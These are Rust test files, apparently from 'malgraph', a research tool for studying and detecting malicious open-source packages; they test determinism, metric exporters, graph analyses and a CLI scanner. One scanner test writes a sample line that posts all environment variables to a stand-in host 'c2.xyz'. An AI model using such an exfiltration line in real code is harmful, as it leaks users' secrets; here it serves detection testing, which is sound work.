//! Determinism and sensitivity: the entire study must be a pure function
//! of the seed, and genuinely different across seeds.

use malgraph::crawler::collect;
use malgraph::malgraph_core::{build, BuildOptions};
use malgraph::prelude::*;

#[test]
fn identical_seeds_produce_identical_studies() {
    let run = |seed: u64| {
        let world = World::generate(WorldConfig::small(seed));
        let corpus = collect(&world);
        let graph = build(&corpus, &BuildOptions::default());
        let ids: Vec<String> = corpus.packages.iter().map(|p| p.id.to_string()).collect();
        let sigs: Vec<Option<String>> = corpus
            .packages
            .iter()
            .map(|p| p.signature.map(|s| s.to_string()))
            .collect();
        let group_sizes: Vec<usize> = graph
            .groups(Relation::Similar)
            .iter()
            .map(Vec::len)
            .collect();
        (ids, sigs, graph.graph.edge_count(), group_sizes)
    };
    assert_eq!(run(7), run(7), "a seed must fully determine the study");
}

#[test]
fn different_seeds_produce_different_corpora() {
    let names = |seed: u64| {
        let world = World::generate(WorldConfig::small(seed));
        world
            .packages
            .iter()
            .map(|p| p.id.to_string())
            .collect::<std::collections::BTreeSet<_>>()
    };
    let a = names(1);
    let b = names(2);
    assert_ne!(a, b);
    // Not just a permutation: the intersection should be small (only the
    // fixed showcase names are shared).
    let shared = a.intersection(&b).count();
    assert!(shared < 20, "{shared} shared package ids across seeds");
}

#[test]
fn scale_changes_volume_not_structure() {
    let stats = |scale: f64| {
        let world = World::generate(
            WorldConfig {
                seed: 3,
                ..WorldConfig::default()
            }
            .with_scale(scale),
        );
        let corpus = collect(&world);
        let available = corpus.packages.iter().filter(|p| p.is_available()).count();
        (corpus.packages.len(), available as f64 / corpus.packages.len() as f64)
    };
    let (n_small, avail_small) = stats(0.03);
    let (n_large, avail_large) = stats(0.10);
    assert!(n_large > n_small * 2, "{n_small} → {n_large}");
    assert!(
        (avail_small - avail_large).abs() < 0.30,
        "availability fraction is roughly scale-stable: {avail_small:.2} vs {avail_large:.2}"
    );
}
