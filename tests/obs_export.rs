//! Golden tests for the four exporter formats. The byte-exact expected
//! strings below ARE the schema contract: any change to an exporter that
//! alters them is a breaking change for downstream consumers
//! (`malgraph stats`, `malgraph perf diff`, Prometheus scrapers,
//! `chrome://tracing`, flamegraph.pl) and must bump the `malgraph-obs/2`
//! schema id.

use malgraph::obs;
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};

/// The registry is process-global; exporters are tested one at a time.
fn lock() -> MutexGuard<'static, ()> {
    static LOCK: OnceLock<Mutex<()>> = OnceLock::new();
    LOCK.get_or_init(Mutex::default).lock().unwrap_or_else(|e| e.into_inner())
}

/// Records a small, fully deterministic workload on a fake clock and
/// snapshots it.
fn fixture_snapshot() -> obs::Snapshot {
    let clock = Arc::new(obs::FakeClock::default());
    obs::enable_with_clock(clock.clone() as Arc<dyn obs::Clock>);
    obs::reset();

    obs::counter_add("build.edges_added{relation=similar}", 7);
    obs::counter_add("kmeans.iterations", 3);
    obs::gauge_set("world.packages", 1234.0);
    obs::histogram_record("transport.backoff_ms", 1);
    obs::histogram_record("transport.backoff_ms", 250);
    obs::histogram_record("transport.backoff_ms", 2_000_000);

    clock.set_micros(100);
    let outer = obs::span!("build");
    clock.advance_micros(500);
    let inner = obs::span!("build/similar/ecosystem=npm");
    clock.advance_micros(200);
    drop(inner); // closes at 800: start 600, dur 200, all self time
    clock.advance_micros(100);
    drop(outer); // closes at 900: start 100, dur 800, self 600

    let snapshot = obs::snapshot();
    obs::disable();
    snapshot
}

#[test]
fn json_export_matches_the_schema_golden() {
    let _guard = lock();
    let snapshot = fixture_snapshot();
    // No counting allocator is installed in this test binary, so the
    // alloc fields are structurally present but zero.
    let expected = r#"{
  "schema": "malgraph-obs/2",
  "counters": {
    "build.edges_added{relation=similar}": 7,
    "kmeans.iterations": 3
  },
  "gauges": {
    "world.packages": 1234.0
  },
  "histograms": {
    "transport.backoff_ms": {"count": 3, "sum": 2000251, "min": 1, "max": 2000000, "buckets": [1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]}
  },
  "spans": {
    "build": {"count": 1, "total_us": 800, "self_us": 600, "alloc_bytes": 0, "allocs": 0},
    "build/similar/ecosystem=npm": {"count": 1, "total_us": 200, "self_us": 200, "alloc_bytes": 0, "allocs": 0}
  },
  "events_dropped": 0
}
"#;
    assert_eq!(snapshot.to_json(), expected);
}

#[test]
fn folded_export_matches_the_schema_golden() {
    let _guard = lock();
    let snapshot = fixture_snapshot();
    // Self-time weights: the inner span's 200µs belong to it alone, the
    // outer span keeps 800 − 200 = 600µs. Paths are sorted, lines are
    // newline-terminated — flamegraph.pl/inferno input, byte for byte.
    assert_eq!(
        snapshot.to_folded(),
        "build 600\nbuild;build/similar/ecosystem=npm 200\n"
    );
    assert_eq!(
        snapshot.to_folded_alloc(),
        "build 0\nbuild;build/similar/ecosystem=npm 0\n"
    );
}

#[test]
fn prometheus_export_matches_the_schema_golden() {
    let _guard = lock();
    let snapshot = fixture_snapshot();
    let expected = "\
# TYPE build_edges_added counter
build_edges_added{relation=\"similar\"} 7
# TYPE kmeans_iterations counter
kmeans_iterations 3
# TYPE world_packages gauge
world_packages 1234.0
# TYPE transport_backoff_ms histogram
transport_backoff_ms_bucket{le=\"1\"} 1
transport_backoff_ms_bucket{le=\"2\"} 1
transport_backoff_ms_bucket{le=\"5\"} 1
transport_backoff_ms_bucket{le=\"10\"} 1
transport_backoff_ms_bucket{le=\"20\"} 1
transport_backoff_ms_bucket{le=\"50\"} 1
transport_backoff_ms_bucket{le=\"100\"} 1
transport_backoff_ms_bucket{le=\"200\"} 1
transport_backoff_ms_bucket{le=\"500\"} 2
transport_backoff_ms_bucket{le=\"1000\"} 2
transport_backoff_ms_bucket{le=\"2000\"} 2
transport_backoff_ms_bucket{le=\"5000\"} 2
transport_backoff_ms_bucket{le=\"10000\"} 2
transport_backoff_ms_bucket{le=\"20000\"} 2
transport_backoff_ms_bucket{le=\"50000\"} 2
transport_backoff_ms_bucket{le=\"100000\"} 2
transport_backoff_ms_bucket{le=\"200000\"} 2
transport_backoff_ms_bucket{le=\"500000\"} 2
transport_backoff_ms_bucket{le=\"1000000\"} 2
transport_backoff_ms_bucket{le=\"+Inf\"} 3
transport_backoff_ms_sum 2000251
transport_backoff_ms_count 3
# TYPE obs_span_total_us counter
obs_span_total_us{span=\"build\"} 800
obs_span_total_us{span=\"build/similar/ecosystem=npm\"} 200
# TYPE obs_span_self_us counter
obs_span_self_us{span=\"build\"} 600
obs_span_self_us{span=\"build/similar/ecosystem=npm\"} 200
# TYPE obs_span_count counter
obs_span_count{span=\"build\"} 1
obs_span_count{span=\"build/similar/ecosystem=npm\"} 1
";
    assert_eq!(snapshot.to_prometheus(), expected);
}

#[test]
fn chrome_trace_export_matches_the_schema_golden() {
    let _guard = lock();
    let snapshot = fixture_snapshot();
    let expected = "\
{\"displayTimeUnit\":\"ms\",\"traceEvents\":[
{\"name\":\"build\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":100,\"dur\":800,\"pid\":1,\"tid\":1},
{\"name\":\"build/similar/ecosystem=npm\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":600,\"dur\":200,\"pid\":1,\"tid\":1}
]}
";
    assert_eq!(snapshot.to_chrome_trace(), expected);
}

#[test]
fn chrome_trace_keeps_worker_shards_on_distinct_tid_rows() {
    let _guard = lock();
    let clock = Arc::new(obs::FakeClock::default());
    obs::enable_with_clock(clock.clone() as Arc<dyn obs::Clock>);
    obs::reset();

    clock.set_micros(100);
    obs::span!("main-stage").finish();
    // Two worker threads, joined in turn so the event timeline is fully
    // scripted; each records one span on its own registry shard.
    for (name, start) in [("worker-a", 200u64), ("worker-b", 300u64)] {
        let clock = clock.clone();
        std::thread::spawn(move || {
            clock.set_micros(start);
            obs::span!("{}", name).finish();
        })
        .join()
        .expect("worker");
    }
    let snapshot = obs::snapshot();
    obs::disable();

    // tids are renumbered densely by first appearance in the
    // time-sorted event list, so the export is byte-stable even though
    // raw registry thread ordinals depend on spawn order history.
    let expected = "\
{\"displayTimeUnit\":\"ms\",\"traceEvents\":[
{\"name\":\"main-stage\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":100,\"dur\":0,\"pid\":1,\"tid\":1},
{\"name\":\"worker-a\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":200,\"dur\":0,\"pid\":1,\"tid\":2},
{\"name\":\"worker-b\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":300,\"dur\":0,\"pid\":1,\"tid\":3}
]}
";
    assert_eq!(snapshot.to_chrome_trace(), expected);
}

#[test]
fn empty_snapshot_exports_are_well_formed() {
    let _guard = lock();
    obs::enable();
    obs::reset();
    let snapshot = obs::snapshot();
    obs::disable();
    assert_eq!(
        snapshot.to_json(),
        "{\n  \"schema\": \"malgraph-obs/2\",\n  \"counters\": {},\n  \"gauges\": {},\n  \
         \"histograms\": {},\n  \"spans\": {},\n  \"events_dropped\": 0\n}\n"
    );
    assert_eq!(snapshot.to_prometheus(), "");
    assert_eq!(snapshot.to_chrome_trace(), "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[]}\n");
    assert_eq!(snapshot.to_folded(), "");
    assert_eq!(snapshot.to_folded_alloc(), "");
}
