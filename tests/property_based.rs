//! Property-based tests (proptest) on the core invariants:
//! parse∘print = id over generated programs, embedding determinism and
//! bounds, component semantics, diff metric properties, CDF monotonicity.

use malgraph::cluster::metrics::adjusted_rand_index;
use malgraph::embed::Embedder;
use malgraph::graphstore::unionfind::UnionFind;
use malgraph::minilang::diff::diff_lines;
use malgraph::minilang::gen::{generate, mutate, Behavior, Mutation};
use malgraph::minilang::printer::print_module;
use malgraph::minilang::{canon::canonicalize, parse};
use malgraph::oss_types::{name::levenshtein, SimDuration, SimTime};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn arbitrary_module() -> impl Strategy<Value = malgraph::minilang::Module> {
    // Drive the generator (which emits every language construct) from a
    // proptest-chosen seed, behaviour and mutation chain — giving a rich,
    // shrinkable space of valid programs.
    (
        any::<u64>(),
        0usize..Behavior::ALL.len(),
        proptest::collection::vec(0usize..Mutation::ALL.len(), 0..6),
    )
        .prop_map(|(seed, behavior, mutations)| {
            let mut rng = StdRng::seed_from_u64(seed);
            let mut module = generate(Behavior::ALL[behavior], &mut rng);
            for m in mutations {
                module = mutate(&module, Mutation::ALL[m], &mut rng);
            }
            module
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn print_parse_round_trips(module in arbitrary_module()) {
        let printed = print_module(&module);
        let reparsed = parse(&printed).expect("printer output must parse");
        prop_assert_eq!(&module, &reparsed);
        // And printing is a fixed point.
        prop_assert_eq!(print_module(&reparsed), printed);
    }

    #[test]
    fn canonicalization_is_idempotent_and_parseable(module in arbitrary_module()) {
        let once = canonicalize(&module);
        let twice = canonicalize(&once);
        prop_assert_eq!(print_module(&once), print_module(&twice));
        prop_assert!(parse(&print_module(&once)).is_ok());
    }

    #[test]
    fn embedding_is_unit_norm_and_deterministic(module in arbitrary_module()) {
        let embedder = Embedder::new(128);
        let a = embedder.embed(&module);
        let b = embedder.embed(&module);
        prop_assert_eq!(&a, &b);
        let norm = a.norm();
        prop_assert!((norm - 1.0).abs() < 1e-4 || norm == 0.0, "norm {}", norm);
        prop_assert!((a.cosine(&b) - 1.0).abs() < 1e-4 || norm == 0.0);
    }

    #[test]
    fn diff_is_a_pseudometric(
        a in proptest::collection::vec("[a-z]{0,6}", 0..20),
        b in proptest::collection::vec("[a-z]{0,6}", 0..20),
    ) {
        let ab = diff_lines(&a, &b);
        let ba = diff_lines(&b, &a);
        // Symmetry of changed lines, identity of indiscernibles.
        prop_assert_eq!(ab.changed_lines(), ba.changed_lines());
        prop_assert_eq!(ab.common, ba.common);
        let aa = diff_lines(&a, &a);
        prop_assert!(aa.is_identical());
        // The LCS never exceeds either side.
        prop_assert!(ab.common <= a.len() && ab.common <= b.len());
        prop_assert_eq!(ab.removed + ab.common, a.len());
        prop_assert_eq!(ab.added + ab.common, b.len());
    }

    #[test]
    fn levenshtein_triangle_inequality(
        a in "[a-z]{0,12}",
        b in "[a-z]{0,12}",
        c in "[a-z]{0,12}",
    ) {
        let ab = levenshtein(&a, &b);
        let bc = levenshtein(&b, &c);
        let ac = levenshtein(&a, &c);
        prop_assert!(ac <= ab + bc, "d(a,c)={ac} > d(a,b)+d(b,c)={}", ab + bc);
        prop_assert_eq!(levenshtein(&a, &a), 0);
        prop_assert_eq!(ab, levenshtein(&b, &a));
    }

    #[test]
    fn union_find_components_are_equivalence_classes(
        edges in proptest::collection::vec((0usize..40, 0usize..40), 0..80)
    ) {
        let mut uf = UnionFind::new(40);
        for &(a, b) in &edges {
            uf.union(a, b);
        }
        // Reflexive+symmetric+transitive: grouping by representative is a
        // partition, and every edge's endpoints share a class.
        for &(a, b) in &edges {
            prop_assert!(uf.connected(a, b));
        }
        let mut class_sizes = std::collections::HashMap::new();
        for i in 0..40 {
            *class_sizes.entry(uf.find(i)).or_insert(0usize) += 1;
        }
        prop_assert_eq!(class_sizes.values().sum::<usize>(), 40);
        prop_assert_eq!(class_sizes.len(), uf.component_count());
    }

    #[test]
    fn ari_bounds_and_permutation_invariance(
        labels in proptest::collection::vec(0usize..4, 2..40),
        perm_offset in 1usize..4,
    ) {
        let permuted: Vec<usize> = labels.iter().map(|&l| (l + perm_offset) % 4).collect();
        let ari = adjusted_rand_index(&labels, &permuted);
        prop_assert!((ari - 1.0).abs() < 1e-9, "relabeling must keep ARI at 1, got {ari}");
        let other: Vec<usize> = labels.iter().rev().copied().collect();
        let cross = adjusted_rand_index(&labels, &other);
        prop_assert!(cross <= 1.0 + 1e-9);
    }

    #[test]
    fn sandbox_never_panics_and_traces_malware(module in arbitrary_module()) {
        use malgraph::minilang::interp::{run, InterpConfig, Outcome};
        let trace = run(&module, &InterpConfig { fuel: 5_000 });
        // Generated malware always wraps its hook in try/except, so the
        // run must not die on an uncaught error…
        prop_assert_ne!(trace.outcome, Outcome::Error, "error: {:?}", trace.error);
        // …and the payload always leaves at least one observable effect.
        prop_assert!(!trace.effects.is_empty());
        prop_assert!(trace.steps <= 5_000);
    }

    #[test]
    fn static_scan_is_threshold_monotone(module in arbitrary_module(), t in 0.0f64..20.0) {
        use malgraph::detector::StaticDetector;
        let loose = StaticDetector::new(t).scan(&module, None);
        let strict = StaticDetector::new(t + 1.0).scan(&module, None);
        prop_assert_eq!(&loose.matched, &strict.matched);
        if strict.malicious {
            prop_assert!(loose.malicious, "raising the threshold cannot add detections");
        }
    }

    #[test]
    fn simtime_ymd_roundtrip(minutes in 0u64..(8 * 366 * 24 * 60)) {
        let t = SimTime::from_minutes(minutes);
        let (y, m, d) = t.to_ymd();
        let back = SimTime::from_ymd(y, m, d);
        // Dropping the time-of-day loses at most one day of minutes.
        prop_assert!(t.since(back) < SimDuration::days(1));
        prop_assert!(back <= t);
    }

    #[test]
    fn duration_cdf_is_monotone(
        mut days in proptest::collection::vec(0u64..4000, 1..60)
    ) {
        use malgraph::malgraph_core::analysis::campaign::period_cdf;
        days.sort_unstable();
        let durations: Vec<SimDuration> = days.iter().map(|&d| SimDuration::days(d)).collect();
        let cdf = period_cdf(&durations);
        prop_assert!(!cdf.is_empty());
        for pair in cdf.windows(2) {
            prop_assert!(pair[0].0 <= pair[1].0);
            prop_assert!(pair[0].1 <= pair[1].1);
        }
        prop_assert!((cdf.last().unwrap().1 - 1.0).abs() < 1e-9);
    }
}
