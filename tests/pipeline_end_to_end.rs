//! End-to-end integration: world → collection → MALGRAPH → analyses,
//! asserting the paper's headline findings hold on the calibrated corpus.

use malgraph::malgraph_core::analysis::{campaign, diversity, evolution, overlap, quality};
use malgraph::prelude::*;

fn setup() -> (World, CollectedDataset, MalGraph) {
    let world = World::generate(WorldConfig::small(12345));
    let corpus = collect(&world);
    let graph = build(&corpus, &BuildOptions::default());
    (world, corpus, graph)
}

use malgraph::crawler::collect;
use malgraph::crawler::CollectedDataset;
use malgraph::malgraph_core::{build, BuildOptions, MalGraph};

#[test]
fn mentions_survive_the_whole_pipeline() {
    let (world, corpus, graph) = setup();
    let collected: usize = corpus.packages.iter().map(|p| p.mentions.len()).sum();
    assert_eq!(collected, world.mentions.len(), "no mention lost or invented");
    assert_eq!(graph.graph.node_count(), world.mentions.len());
    assert_eq!(graph.package_count(), corpus.packages.len());
}

#[test]
fn finding1_overlap_is_low_and_academia_skewed() {
    let (_, corpus, _) = setup();
    let matrix = overlap::overlap_matrix(&corpus);
    use malgraph::oss_types::SourceCategory::{Academia, Industry};
    let aa = overlap::category_mean_overlap(&matrix, Academia, Academia);
    let ii = overlap::category_mean_overlap(&matrix, Industry, Industry);
    assert!(aa > ii, "academia redundancy {aa:.1} must exceed industry {ii:.1}");
    // Fig. 4: single-source packages dominate.
    let cdf = overlap::dg_size_cdf(&corpus, Ecosystem::PyPI);
    assert!(cdf[0].0 == 1 && cdf[0].1 > 0.6);
}

#[test]
fn finding2_missing_rate_is_severe() {
    let (_, corpus, _) = setup();
    let (rows, overall) = quality::missing_rates(&corpus);
    assert!(
        (40.0..80.0).contains(&overall),
        "overall MR should sit near the paper's 64%, got {overall:.1}%"
    );
    // Dumps are complete; report-only sources hurt.
    for row in &rows {
        match row.source {
            SourceId::Maloss | SourceId::MalPyPI | SourceId::DataDog => {
                assert_eq!(row.single_mr_pct, 0.0)
            }
            SourceId::Socket => assert!(row.single_mr_pct > 70.0, "{:.1}", row.single_mr_pct),
            _ => {}
        }
    }
}

#[test]
fn finding3_diversity_is_limited_and_pypi_floods() {
    let (_, _, graph) = setup();
    let rows = diversity::table7(&graph);
    let npm = rows.iter().find(|r| r.ecosystem == Ecosystem::Npm).unwrap();
    let pypi = rows.iter().find(|r| r.ecosystem == Ecosystem::PyPI).unwrap();
    assert!(npm.sg.groups >= 1 && pypi.sg.groups >= 1);
    // Table VII shape: PyPI groups much larger on average (the flood);
    // NPM has more DeG campaigns than anyone.
    assert!(pypi.sg.avg_size > npm.sg.avg_size);
    for row in &rows {
        if row.deg.groups > 0 {
            assert!(row.deg.avg_size < 4.0, "DeG stays tiny");
        }
    }
}

#[test]
fn finding3_lifecycle_and_active_periods() {
    let (_, corpus, graph) = setup();
    let stats = campaign::lifecycle_stats(&corpus);
    assert!(stats.removed_within_day > 0.2, "removal is fast");
    let sg = campaign::active_periods(&graph, &corpus, Relation::Similar);
    let deg = campaign::active_periods(&graph, &corpus, Relation::Dependency);
    assert!(!sg.is_empty() && !deg.is_empty());
    let mean = |v: &[SimDuration]| v.iter().map(|d| d.as_days_f64()).sum::<f64>() / v.len() as f64;
    assert!(
        mean(&deg) > mean(&sg) * 3.0,
        "DeG ({:.0}d) must far outlast SG ({:.0}d)",
        mean(&deg),
        mean(&sg)
    );
}

#[test]
fn finding4_cn_dominates_and_trojans_top_idn() {
    let (world, corpus, graph) = setup();
    let sequences = evolution::release_sequences(&graph, &corpus);
    let dist = evolution::op_distribution(&sequences);
    assert!(dist.attempts > 20);
    assert!(dist.pct_of(ChangeOp::ChangeName) > 85.0);
    assert!(dist.pct_of(ChangeOp::ChangeVersion) < 15.0);
    assert!(dist.pct_of(ChangeOp::ChangeDependency) < 30.0);

    let idn = evolution::idn_ranking(&corpus, &world, 10);
    assert!(!idn.is_empty());
    assert!(idn[0].idn > 10_000, "trojan outliers dominate IDN: {}", idn[0].idn);
    assert!(idn[0].ops.contains(ChangeOp::ChangeVersion));
}

#[test]
fn coexisting_groups_recover_reported_campaigns() {
    let (world, _, graph) = setup();
    let cg = graph.groups(Relation::Coexisting);
    assert!(!cg.is_empty());
    // Every CG group should be dominated by one ground-truth campaign
    // cluster (reports chain packages of the same campaign group).
    let mut dominated = 0usize;
    for group in cg {
        let mut counts: std::collections::HashMap<u32, usize> = Default::default();
        for &node in group {
            let id = &graph.graph.node(node).package;
            if let Some(c) = world
                .packages
                .iter()
                .find(|p| &p.id == id)
                .and_then(|p| p.campaign)
            {
                *counts.entry(c.0).or_default() += 1;
            }
        }
        if let Some(&max) = counts.values().max() {
            if max * 2 >= group.len() {
                dominated += 1;
            }
        }
    }
    assert!(
        dominated * 10 >= cg.len() * 7,
        "{dominated}/{} CGs dominated by one campaign",
        cg.len()
    );
}

#[test]
fn graph_relations_are_disjoint_populations_where_expected() {
    let (_, corpus, graph) = setup();
    // Similar edges exist only between available packages; duplicated
    // edges only within one package's mention set.
    for edge in graph.graph.edges() {
        match edge.label {
            Relation::Similar => {
                let a = graph.graph.node(edge.from);
                assert!(corpus.get(&a.package).unwrap().is_available());
            }
            Relation::Duplicated => {
                assert_eq!(
                    graph.graph.node(edge.from).package,
                    graph.graph.node(edge.to).package
                );
            }
            _ => {}
        }
    }
}
