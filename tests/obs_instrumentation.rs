//! The observability contract: enabling `obs` — now including self-time
//! attribution and allocation accounting through the counting global
//! allocator — must not change a single byte of pipeline output, at any
//! thread count.
//!
//! One test function on purpose — the `obs` registry is process-global,
//! so enable/disable transitions are sequenced in a single place instead
//! of racing across the harness's test threads.

use malgraph::crawler::{collect_with, export_json, CollectOptions, ExportFidelity};
use malgraph::obs;
use malgraph::prelude::*;
use std::fmt::Write as _;

// Same allocator setup as the malgraph CLI: the instrumented arm runs
// with allocation tracking live.
#[global_allocator]
static ALLOC: obs::alloc::CountingAlloc = obs::alloc::CountingAlloc::new();

/// A canonical rendering of the whole graph: every node in insertion
/// order with its ordered out-edge list. Bitwise equality of signatures
/// is bitwise equality of graphs.
fn graph_signature(graph: &MalGraph) -> String {
    let mut out = String::new();
    for (id, node) in graph.graph.nodes() {
        let _ = write!(out, "{} {}", id.index(), node.package);
        for &(to, label) in graph.graph.out_edges(id) {
            let _ = write!(out, " ->{}:{:?}", to.index(), label);
        }
        out.push('\n');
    }
    out
}

fn run_pipeline(world: &World, threads: usize) -> (String, String) {
    let opts = CollectOptions {
        threads,
        ..CollectOptions::default()
    };
    let corpus = collect_with(world, &opts);
    let json = export_json(&corpus, ExportFidelity::Full).expect("export");
    let graph = build(&corpus, &BuildOptions::default());
    (json, graph_signature(&graph))
}

#[test]
fn instrumented_runs_are_bitwise_identical_to_uninstrumented() {
    let world = World::generate(WorldConfig::small(11));
    let mut reference: Option<(String, String)> = None;

    for threads in [1usize, 7] {
        obs::disable();
        let (json_off, graph_off) = run_pipeline(&world, threads);

        obs::enable();
        obs::alloc::enable_tracking();
        obs::reset();
        let (json_on, graph_on) = run_pipeline(&world, threads);
        let snapshot = obs::snapshot();
        obs::alloc::disable_tracking();
        obs::disable();

        assert_eq!(
            json_off, json_on,
            "corpus JSON changed under instrumentation (threads={threads})"
        );
        assert_eq!(
            graph_off, graph_on,
            "graph changed under instrumentation (threads={threads})"
        );

        // The instrumented run actually recorded the pipeline.
        assert!(
            snapshot.counters.iter().any(|(n, v)| n == "crawler.attempts" && *v > 0),
            "no crawler.attempts counter in snapshot"
        );
        assert!(
            snapshot
                .counters
                .iter()
                .any(|(n, v)| n == "build.edges_added{relation=similar}" && *v > 0),
            "no similar-edge counter in snapshot"
        );
        assert!(
            snapshot.spans.iter().any(|s| s.name == "collect" && s.total_us > 0),
            "no collect span in snapshot"
        );
        assert!(
            snapshot.spans.iter().any(|s| s.name.starts_with("build/similar/ecosystem=")),
            "no per-ecosystem similarity span in snapshot"
        );
        // The profiling layer was live: self time is attributed, the
        // folded profile nests the per-ecosystem spans under the stage
        // span (also across the worker threads), and allocations are
        // charged through the counting allocator.
        assert!(
            snapshot.spans.iter().any(|s| s.self_us > 0 && s.self_us <= s.total_us),
            "no self-time attribution in snapshot"
        );
        assert!(
            snapshot
                .folded
                .iter()
                .any(|f| f.stack.starts_with("build;build/similar;build/similar/ecosystem=")),
            "worker-thread spans must fold under their spawning stage"
        );
        assert!(
            snapshot.spans.iter().any(|s| s.alloc_bytes > 0 && s.allocs > 0),
            "no allocation accounting in snapshot"
        );

        // Identical output across thread counts, instrumented or not.
        match &reference {
            None => reference = Some((json_on, graph_on)),
            Some((ref_json, ref_graph)) => {
                assert_eq!(ref_json, &json_on, "corpus JSON varies with thread count");
                assert_eq!(ref_graph, &graph_on, "graph varies with thread count");
            }
        }
    }
}
