//! The vector-kernel contract: the cache-tiled sparse kernels and the
//! certified i8 screen must not change a single bit of similarity
//! pipeline output relative to the dense-scalar engine, at any thread
//! count. Acceptance gate of the kernel layer (see DESIGN.md, "Vector
//! kernels"): speed may come from layout, tiling and pruning — never
//! from answering a different question.

use malgraph::cluster::Kernel;
use malgraph::malgraph_core::similarity::{similar_pairs, SimilarityConfig, SimilarityOutput};
use malgraph::oss_types::PackageId;
use minilang::gen::{generate, mutate, Behavior, Mutation};
use minilang::printer::print_module;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Builds a corpus of mutated code families plus unclustered noise —
/// near-ties in every cluster, the adversarial case for bit equality.
fn corpus(families: usize, per: usize, seed: u64) -> Vec<(PackageId, String)> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::new();
    for f in 0..families {
        let behavior = Behavior::ALL[f % Behavior::ALL.len()];
        let base = generate(behavior, &mut rng);
        let mut current = base;
        for m in 0..per {
            if m > 0 && rng.gen_bool(0.6) {
                let mutation = Mutation::ALL[m % Mutation::ALL.len()];
                current = mutate(&current, mutation, &mut rng);
            }
            let id: PackageId = format!("pypi/fam{f}-pkg{m}@1.0.0").parse().unwrap();
            out.push((id, print_module(&current)));
        }
    }
    out
}

/// Canonical rendering of a pipeline output; bitwise equality of
/// renderings is bitwise equality of results (the inertia trace is
/// rendered via `to_bits`, so even sub-ulp drift would show).
fn signature(out: &SimilarityOutput) -> String {
    use std::fmt::Write as _;
    let mut s = String::new();
    let _ = writeln!(s, "k={}", out.chosen_k);
    for &(k, inertia) in &out.trace {
        let _ = writeln!(s, "trace {k} {:#010x}", inertia.to_bits());
    }
    for &(a, b) in &out.pairs {
        let _ = writeln!(s, "pair {a} {b}");
    }
    s
}

#[test]
fn kernels_and_thread_counts_produce_identical_similarity_output() {
    let data = corpus(5, 9, 0xC0FFEE);
    let entries: Vec<(PackageId, &str)> = data
        .iter()
        .map(|(id, code)| (id.clone(), code.as_str()))
        .collect();
    let run = |kernel: Kernel, threads: usize| {
        let config = SimilarityConfig {
            dim: 512,
            kernel,
            threads,
            ..SimilarityConfig::default()
        };
        signature(&similar_pairs(&entries, &config))
    };
    let reference = run(Kernel::DenseScalar, 1);
    assert!(
        reference.contains("pair"),
        "corpus must produce at least one similar pair for the \
         comparison to mean anything:\n{reference}"
    );
    for kernel in [Kernel::DenseScalar, Kernel::Tiled, Kernel::TiledQuantized] {
        for threads in [1usize, 7] {
            let other = run(kernel, threads);
            assert_eq!(
                reference, other,
                "{kernel:?} at {threads} threads diverged from the \
                 dense-scalar single-thread reference"
            );
        }
    }
}

#[test]
fn paper_dimensionality_is_also_bitwise_stable() {
    // One smaller corpus at the paper's 3072 dims: exercises the
    // density gate and the screen at production scale factors.
    let data = corpus(3, 5, 0xBEEF);
    let entries: Vec<(PackageId, &str)> = data
        .iter()
        .map(|(id, code)| (id.clone(), code.as_str()))
        .collect();
    let run = |kernel: Kernel, threads: usize| {
        let config = SimilarityConfig {
            kernel,
            threads,
            ..SimilarityConfig::paper()
        };
        signature(&similar_pairs(&entries, &config))
    };
    let reference = run(Kernel::DenseScalar, 1);
    for threads in [1usize, 7] {
        assert_eq!(
            reference,
            run(Kernel::TiledQuantized, threads),
            "TiledQuantized at {threads} threads diverged at dim=3072"
        );
    }
}
