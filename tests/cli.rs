//! Integration tests for the `malgraph` CLI binary: the downstream-user
//! flow (world → collect → analyze → scan) through a real process.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malgraph"))
}

#[test]
fn world_prints_statistics() {
    let out = bin()
        .args(["world", "--seed", "5", "--scale", "0.02"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("packages"));
    assert!(text.contains("campaigns"));
    assert!(text.contains("mirrors"));
}

#[test]
fn collect_then_analyze_round_trips() {
    let dir = std::env::temp_dir().join(format!("malgraph-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let corpus = dir.join("corpus.json");

    let out = bin()
        .args([
            "collect",
            "--seed",
            "5",
            "--scale",
            "0.02",
            "--out",
            corpus.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(corpus.exists());

    let out = bin()
        .args(["analyze", "--corpus", corpus.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("relation graphs"));
    assert!(text.contains("missing rate"));
    assert!(text.contains("ops over"));

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn scan_flags_malicious_code_with_nonzero_exit() {
    let dir = std::env::temp_dir().join(format!("malgraph-scan-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evil = dir.join("evil.pyl");
    std::fs::write(
        &evil,
        "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
    )
    .unwrap();
    let out = bin()
        .args(["scan", evil.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1), "malicious scan exits 1");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malicious=true"));
    assert!(text.contains("exfiltration"));

    let clean = dir.join("clean.pyl");
    std::fs::write(&clean, "def add(a, b):\n    return a + b\n").unwrap();
    let out = bin()
        .args(["scan", clean.to_str().unwrap()])
        .output()
        .expect("binary runs");
